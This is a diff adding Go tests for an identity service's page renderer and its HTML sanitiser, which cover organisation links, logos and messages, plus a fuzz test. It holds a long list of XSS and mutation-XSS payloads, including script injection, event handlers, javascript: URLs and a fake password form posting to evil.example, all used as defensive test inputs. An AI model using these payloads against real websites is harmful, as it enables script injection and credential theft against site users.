@@ -1,0 +1,158 @@
+package page_test
+
+import (
+	"context"
+	"net/http"
+	"slices"
+	"strings"
+	"testing"
+
+	"golang.org/x/net/html"
+
+	"github.com/gatehouse-id/gatehouse/internal/page"
+)
+
+// withOrganisation returns a renderer for which the shop belongs to an organisation.
+func withOrganisation(t *testing.T, org *page.Organisation) *page.Renderer {
+	t.Helper()
+	p := newRenderer(t, page.Brand{Help: "https://help.example.com/"})
+	all := page.NewOrganisations(map[string]*page.Organisation{"shop": org, "second": org})
+	p.SetOrganisations(func(context.Context) *page.Organisations { return all })
+	return p
+}
+
+func TestOrganisationOnPages(t *testing.T) {
+	t.Parallel()
+	org := &page.Organisation{
+		Name: "Acme <b>", SiteURL: "https://acme.example/?a=1&b", SupportURL: "https://acme.example/help", SupportEmail: "help@acme.example",
+		Logo: pngOf(t, 40, 20), Message: "<p>We are <b>moving</b>.</p>",
+	}
+	p := withOrganisation(t, org)
+	consent, signIn := render(p, views()["consent"]).Body.String(), render(p, views()["sign_in"]).Body.String()
+	if want := `It belongs to Acme &lt;b&gt;. <a href="https://acme.example/?a=1&amp;b" rel="noopener noreferrer">acme.example</a>`; !strings.Contains(consent, want) {
+		t.Errorf("the consent page has no %s:\n%s", want, consent)
+	}
+	if want := `<div class="notice info">`; !strings.Contains(signIn, want) || !strings.Contains(signIn, "<p>We are <b>moving</b>.</p>") || strings.Contains(consent, "moving") {
+		t.Errorf("the sign-in page has no message, or the consent page has one:\n%s", signIn)
+	}
+	if !strings.Contains(signIn, `href="https://acme.example/help" rel="noopener noreferrer">Help`) {
+		t.Error("the footer does not lead to the help of the organisation")
+	}
+	m := imgOf.FindStringSubmatch(signIn)
+	if m == nil || m[2] != "80" || get(p, m[1]).Code != http.StatusOK {
+		t.Errorf("the sign-in page shows the picture %q, want that of the organisation", m)
+	}
+	other := views()["sign_in"]
+	other.Client.ID = "other"
+	if body := render(p, other).Body.String(); strings.Contains(body, "Acme") || strings.Contains(body, "moving") || !strings.Contains(body, "help.example.com") {
+		t.Errorf("the page of another client shows the organisation:\n%s", body)
+	}
+	if body := render(withOrganisation(t, &page.Organisation{SupportEmail: "help@acme.example"}), views()["sign_in"]).Body.String(); !strings.Contains(body, `href="mailto:help@acme.example"`) {
+		t.Error("without a site for help the footer has no address")
+	}
+	t.Run("attack 276: links and logos of organisations", func(t *testing.T) {
+		t.Parallel()
+		for _, evil := range []string{"javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>", "//evil.example", "vbscript:x", "https://a\nb", "mailto:x@y"} {
+			p := withOrganisation(t, &page.Organisation{Name: `"><script>alert(1)</script>`, SiteURL: evil, SupportURL: strings.TrimPrefix(evil, "mailto:x@y"), SupportEmail: `x"><script>`, Logo: []byte("<svg onload=alert(1)>")})
+			for _, name := range []string{"sign_in", "consent", "choose"} {
+				body := render(p, views()[name]).Body.String()
+				if strings.Contains(body, "<script") || strings.Contains(body, `href="`+html.EscapeString(evil)) || strings.Contains(body, "onload=") || strings.Contains(body, `class="logo"`) {
+					t.Errorf("page %q runs what an organisation says (%q):\n%s", name, evil, body)
+				}
+			}
+		}
+	})
+	t.Run("organisations that cannot be read", func(t *testing.T) {
+		t.Parallel()
+		p := newRenderer(t, page.Brand{})
+		p.SetOrganisations(func(context.Context) *page.Organisations { panic("the store is broken") })
+		if w := render(p, views()["sign_in"]); w.Code != http.StatusOK {
+			t.Errorf("sign-in page = %d, want 200", w.Code)
+		}
+		p.SetOrganisations(func(context.Context) *page.Organisations { return nil })
+		if w := render(p, views()["sign_in"]); w.Code != http.StatusOK {
+			t.Errorf("sign-in page = %d, want 200", w.Code)
+		}
+	})
+}
+
+func TestCleanHTML(t *testing.T) {
+	t.Parallel()
+	for in, want := range map[string]string{
+		"":                   "",
+		"plain & simple < 3": "plain &amp; simple &lt; 3",
+		"<p>One<br>two <strong>three</strong></p>":                                 "<p>One<br>two <strong>three</strong></p>",
+		"<ul><li>a<li>b</ul>":                                                      "<ul><li>a</li><li>b</li></ul>",
+		`<a href="https://x.example/?a=1&amp;b" target="_blank" onclick="x">x</a>`: `<a href="https://x.example/?a=1&amp;b" rel="noopener noreferrer">x</a>`,
+		`<a href="mailto:x@x.example">x</a>`:                                       `<a href="mailto:x@x.example" rel="noopener noreferrer">x</a>`,
+		`<h1 class="x">Big</h1><div>text</div>`:                                    "Bigtext",
+		"{{.}} ${7*7}":                                                             "{{.}} ${7*7}",
+	} {
+		if got := page.CleanHTML(in); got != want {
+			t.Errorf("CleanHTML(%q) = %q, want %q", in, got, want)
+		}
+	}
+	t.Run("attack 277: markup that mutates", func(t *testing.T) {
+		t.Parallel()
+		for _, evil := range mutations {
+			checkClean(t, evil)
+		}
+	})
+}
+
+// mutations are pieces of HTML that sanitisers have let through, or that browsers read in another way than it looks.
+var mutations = []string{
+	`<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `<svg onload=alert(1)>`, `<svg><style><img src=x onerror=alert(1)></style></svg>`,
+	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
+	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
+	`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`, `<math><annotation-xml encoding="text/html"><style></math><img src=x onerror=alert(1)>`,
+	`<template><script>alert(1)</script></template>`, `<a href="javascript:alert(1)">x</a>`, `<a href=" javascript:alert(1)">x</a>`, "<a href=\"java\tscript:alert(1)\">x</a>",
+	`<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<a href="//evil.example">x</a>`, `<a xlink:href="javascript:alert(1)">x</a>`, `<p style="background:url(x)">x</p>`,
+	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`, `<form action=https://evil.example><input name=password><button>Sign in</button></form>`,
+	`<form><form action=https://evil.example>`, `<p id=problem name=csrf class=notice>x</p>`, `<base href=https://evil.example>`, `<meta http-equiv=refresh content="0;url=https://evil.example">`,
+	`<link rel=stylesheet href=https://evil.example>`, `<object data=x>`, `<embed src=x>`, `<video><source onerror=alert(1)>`, `<xmp><p title="</xmp><img src=x onerror=alert(1)>">`,
+	`<textarea><p title="</textarea><img src=x onerror=alert(1)>">`, `<plaintext><img src=x onerror=alert(1)>`, `<select><style></select><img src=x onerror=alert(1)></style>`,
+	`<b><a href="https://ok.example"><table><td><a href="https://ok.example">x`, `<!--<img src="--><img src=x onerror=alert(1)//">`, `<![CDATA[<img src=x onerror=alert(1)>]]>`,
+	`<p title='"><img src=x onerror=alert(1)>'>`, strings.Repeat("<b>", 5000) + "x", strings.Repeat("<p><ul><li>", 300), "<\x00script>alert(1)</script>", "\xff<img src=x onerror=alert(1)>",
+	`</main></body><script>alert(1)</script>`, `<details ontoggle=alert(1) open>`, `<marquee onstart=alert(1)>`, `<a href="https://ok.example" ping="https://evil.example">x</a>`,
+}
+
+// checkClean holds that what is left of a piece of HTML is harmless and stays as it is when it is cleaned again.
+func checkClean(t *testing.T, in string) {
+	t.Helper()
+	got := page.CleanHTML(in)
+	if again := page.CleanHTML(got); again != got {
+		t.Errorf("CleanHTML(%.80q) = %.200q, and of that %.200q", in, got, again)
+	}
+	doc, err := html.Parse(strings.NewReader("<!doctype html><body>" + got + "</body>"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	for n := range doc.Descendants() {
+		if n.Type == html.CommentNode {
+			t.Errorf("CleanHTML(%.80q) = %.200q: it has a comment", in, got)
+		}
+		if n.Type != html.ElementNode {
+			continue
+		}
+		if !slices.Contains([]string{"html", "head", "body", "a", "b", "br", "em", "i", "li", "ol", "p", "strong", "ul"}, n.Data) {
+			t.Errorf("CleanHTML(%.80q) = %.200q: it has the element %s", in, got, n.Data)
+		}
+		for _, a := range n.Attr {
+			if n.Data != "a" || (a.Key != "rel" && (a.Key != "href" || !strings.HasPrefix(a.Val, "http") && !strings.HasPrefix(a.Val, "mailto:"))) {
+				t.Errorf("CleanHTML(%.80q) = %.200q: it has the attribute %s=%q", in, got, a.Key, a.Val)
+			}
+		}
+	}
+}
+
+func FuzzCleanHTML(f *testing.F) {
+	for _, evil := range mutations {
+		f.Add(evil)
+	}
+	f.Fuzz(func(t *testing.T, in string) {
+		if len(in) < 4096 {
+			checkClean(t, in)
+		}
+	})
+}
